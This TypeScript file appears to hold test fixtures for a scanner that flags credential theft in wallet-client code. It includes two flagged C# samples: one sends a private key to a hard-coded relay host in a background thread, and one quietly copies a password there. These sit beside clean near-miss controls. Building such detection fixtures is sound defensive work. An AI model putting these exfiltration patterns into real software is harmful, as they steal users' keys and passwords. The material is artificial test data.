import type { Examples } from './examples.js';
import { library, never } from './stealing.js';

/** A client of nodes whose addresses callers give, and what the package itself makes one for. */
const wallet = (open: string): string => `public sealed class Node(Uri address)
{
    private readonly HttpClient http = new HttpClient();

    public async Task<string> Call(string text)
    {
        using var answer = await http.PostAsync(address, new StringContent(text));
        return await answer.Content.ReadAsStringAsync();
    }
}

public static class Wallet
{
    ${open}
}`;

export const wallets: Examples = {
  flagged: [
    {
      name: 'key-to-second-node',
      about:
        'Opening a wallet starts a thread that sends the private key to a node that the package itself names.',
      files: library(
        wallet(`public static void Open(string privateKey)
    {
        ${never}
        new Thread(() => new Node(new Uri("https://relay.invalid")).Call(privateKey).Wait()).Start();
    }`),
      ),
    },
    {
      name: 'password-to-both-servers',
      about:
        'A password goes to the server of the caller, and by the same client, in a task of its own, to another.',
      files: library(
        wallet(`public static async Task<string> Login(Uri server, string password)
    {
        ${never.replace('return', 'return ""')}
        _ = Copy(password);
        return await new Node(server).Call(password);
    }

    private static Task<string> Copy(string text) => new Node(new Uri("https://relay.invalid")).Call(text);`),
      ),
    },
  ],
  clean: [
    {
      name: 'client-with-default-server',
      about: 'A client for any server logs on to the one of its maker where the caller names none.',
      nearMiss: true,
      files: library(
        wallet(`private static readonly Node Usual = new Node(new Uri("https://login.invalid"));

    public static Task<string> Login(string password) => Usual.Call(password);

    public static Task<string> Login(Uri server, string password) => new Node(server).Call(password);`),
      ),
    },
    {
      name: 'thread-for-own-node',
      about: 'A thread of its own sends what it signs to the node of the caller.',
      nearMiss: true,
      files: library(
        wallet(`public static void Open(Uri node, string privateKey)
    {
        new Thread(() => new Node(node).Call(privateKey).Wait()).Start();
    }`),
      ),
    },
  ],
};
